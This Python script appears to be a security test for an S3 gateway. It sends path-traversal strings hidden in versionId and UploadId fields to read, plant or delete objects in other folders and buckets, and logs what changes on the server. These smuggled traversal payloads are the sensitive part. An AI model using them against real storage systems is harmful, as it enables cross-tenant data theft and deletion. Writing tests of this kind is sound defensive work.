"""Sends upload ids and versions that are paths to the gateway, like an attacker with keys of one repository, and prints
the result of each: its status and code, and what was read.

arguments: the bucket's own S3 server, key and secret there, and the access key and secret of a READ key"""

import json
import os
import sys

import boto3
from botocore.config import Config
from botocore.exceptions import ClientError

SERVER, ADMIN_KEY, ADMIN_SECRET, READ_KEY, READ_SECRET = sys.argv[1:]
BUCKET = os.environ["MATRIX_BUCKET"]


def client(endpoint, key, secret):
    return boto3.client(
        "s3", endpoint_url=endpoint, region_name="us-east-1", aws_access_key_id=key, aws_secret_access_key=secret,
        config=Config(s3={"addressing_style": "path"}, retries={"total_max_attempts": 1}, parameter_validation=False),
    )


GATEWAY = os.environ["MATRIX_ENDPOINT"]
there = client(SERVER, ADMIN_KEY, ADMIN_SECRET)
reader = client(GATEWAY, READ_KEY, READ_SECRET)
writer = client(GATEWAY, os.environ["MATRIX_KEY"], os.environ["MATRIX_SECRET"])


def everything():
    """Everything that the server stores, read without the gateway."""
    found = {}
    for bucket in sorted(one["Name"] for one in there.list_buckets()["Buckets"]):
        found[bucket] = {}
        for page in there.get_paginator("list_objects_v2").paginate(Bucket=bucket):
            for one in page.get("Contents", []):
                body = there.get_object(Bucket=bucket, Key=one["Key"])["Body"].read()
                found[bucket][one["Key"]] = body.decode()
        uploads = there.list_multipart_uploads(Bucket=bucket).get("Uploads", [])
        if uploads:
            found[bucket]["(uploads)"] = sorted(one["Key"] for one in uploads)
    return found


def outcome(act):
    try:
        return act()
    except ClientError as error:
        answer = error.response
        return [answer["ResponseMetadata"]["HTTPStatusCode"], answer["Error"]["Code"]]


def read(answer):
    return [answer["ResponseMetadata"]["HTTPStatusCode"], answer["Body"].read().decode()]


def status(answer):
    return [answer["ResponseMetadata"]["HTTPStatusCode"], "OK"]


def prepare():
    # Stored before versioning was enabled: the server stores such objects elsewhere.
    there.put_object(Bucket=BUCKET, Key="folderB/plain.txt", Body=b"a secret of folder B")
    there.put_bucket_versioning(Bucket=BUCKET, VersioningConfiguration={"Status": "Enabled"})
    there.put_object(Bucket=BUCKET, Key="folderC/kept.txt", Body=b"kept")
    there.put_object(Bucket="unknown", Key="theirs.txt", Body=b"a bucket that Bucketry does not know")
    writer.put_object(Bucket=BUCKET, Key="own.txt", Body=b"own")
    begun = writer.create_multipart_upload(Bucket=BUCKET, Key="large")["UploadId"]
    # The server's own upload id, which clients knew before ids were sealed.
    own = there.list_multipart_uploads(Bucket=BUCKET)["Uploads"]
    return begun, next(one["UploadId"] for one in own if one["Key"] == "folderA/large")


sealed, upload = prepare()
own = {"Bucket": BUCKET, "Key": "own.txt"}
large = {"Bucket": BUCKET, "Key": "large"}
version = "x/../../../folderB/plain.txt"
before = everything()
ATTACKS = {
    "READ reads another folder by versionId": lambda: read(reader.get_object(**own, VersionId=version)),
    "READ asks for it": lambda: status(reader.head_object(**own, VersionId=version)),
    "READ reads its tags": lambda: status(reader.get_object_tagging(**own, VersionId=version)),
    "WRITE copies it to itself": lambda: status(
        writer.copy_object(Bucket=BUCKET, Key="copy.txt", CopySource={**own, "VersionId": version})
    ),
    "WRITE plants an object in another folder": lambda: status(
        writer.upload_part(**large, PartNumber=1, UploadId=upload + "/../../folderB", Body=b"planted")
    ),
    "WRITE plants a part with the server's id": lambda: status(
        writer.upload_part(**large, PartNumber=1, UploadId=upload, Body=b"planted")
    ),
    "WRITE removes another folder": lambda: status(
        writer.abort_multipart_upload(**large, UploadId=upload + "/../../folderB")
    ),
    "WRITE removes another bucket": lambda: status(
        writer.abort_multipart_upload(**large, UploadId=upload + "/../../../unknown")
    ),
    "WRITE removes all uploads": lambda: status(writer.abort_multipart_upload(**large, UploadId=upload + "/..")),
    "WRITE removes the bucket": lambda: status(writer.abort_multipart_upload(**large, UploadId=upload + "/../..")),
}
told = {}
for name, act in ATTACKS.items():
    told[name] = outcome(act)
    try:
        now = everything()
    except ClientError as error:
        now = str(error)
    if now != before:
        told[name].append(f"changed: {json.dumps(now)}")
        before = now
print(json.dumps(told | {"sealed id differs": sealed != upload}))
